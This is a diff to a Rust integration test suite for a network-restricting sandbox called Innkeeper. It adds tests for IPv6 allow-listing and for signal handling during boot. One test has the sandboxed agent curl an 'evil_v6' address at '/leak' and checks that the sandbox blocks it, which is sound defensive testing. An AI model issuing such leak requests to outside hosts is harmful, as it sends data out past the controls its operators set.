@@ -102,7 +102,8 @@ fn a_killed_keeper_takes_its_box_with_it_and_leaves_nothing() {
     await_that("the end of the keeper", || !host.lives(&killed.keeper().to_string()));
     let mut next = host.boot("one", &Options::new());
     next.signal_keeper(Signal::INT);
-    assert_eq!(next.end().0, Some(130));
+    let (status, said) = next.end();
+    assert_eq!(status, Some(130), "{said}");
     await_that("a host as before", || host.snapshot() == before);
 }
 
@@ -187,4 +188,50 @@ fn a_host_with_the_old_iptables_that_forwards_nothing() {
     host.innkeeper(&["ls"]).expect("ls");
     assert_eq!(filter(), rules);
     assert_eq!(host.snapshot(), before);
+}
+
+/// IPv6 where the host forwards it already; Innkeeper never switches that on, since the host would then ignore router
+/// advertisements.
+#[test]
+fn a_box_has_ipv6_where_the_host_forwards_it() {
+    let Some(host) = BareHost::new() else { return };
+    let up = "ip -6 addr add fd77::2/64 dev up0 nodad && ip -6 route add default via fd77::1";
+    host.shell(up).expect("IPv6");
+    let options = Options::new().env("INNKEEPER_NETWORK_ALLOW", "onlysix.test:80;ok.test:80");
+    let before = host.snapshot();
+    let mut without = host.boot("one", &options);
+    assert!(without.agent("curl -sS -m 10 http://ok.test/").out.contains("token-"));
+    assert!(!without.in_its_network("ip -6 route show default").out.contains("default"));
+    without.signal_keeper(Signal::TERM);
+    assert_eq!(without.end().0, Some(143));
+    assert_eq!(host.snapshot(), before);
+    host.shell("echo 1 > /proc/sys/net/ipv6/conf/all/forwarding").expect("forwarding");
+    let before = host.snapshot();
+    let mark = host.world.sync();
+    let mut with = host.boot("one", &options);
+    let page = with.agent("curl -6 -sS -m 10 http://onlysix.test/");
+    assert!(page.out.contains(&format!("token-{}", address("ok_v6"))), "{page:?}\n{}", with.said);
+    let literal = with.agent(&format!("curl -6 -sS -m 10 'http://[{}]/leak'", address("evil_v6")));
+    assert!(!literal.ok() && !host.world.saw("leak"), "{literal:?}");
+    let packets = host.world.packets_since(mark);
+    let six = packets.iter().filter(|packet| packet["dst"] == address("ok_v6"));
+    assert!(six.clone().count() > 0 && six.clone().all(|packet| packet["src"] == "fd77::2"), "{packets:?}");
+    with.signal_keeper(Signal::TERM);
+    assert_eq!(with.end().0, Some(143));
+    assert_eq!(host.snapshot(), before);
+}
+
+#[test]
+fn a_signal_that_comes_while_the_box_is_made_is_obeyed() {
+    let Some(host) = BareHost::new() else { return };
+    let before = host.snapshot();
+    for after in ["experimental", "boot: config", "boot: home"] {
+        let mut guest = host.start("one", &Options::new());
+        assert!(guest.await_line(after).is_some(), "{}", guest.said);
+        guest.signal_keeper(Signal::TERM);
+        let (status, said) = guest.end();
+        assert_eq!(status, Some(143), "{after}: {said}");
+        assert!(!said.contains("again"), "once is enough: {said}");
+        assert_eq!(host.snapshot(), before);
+    }
 }
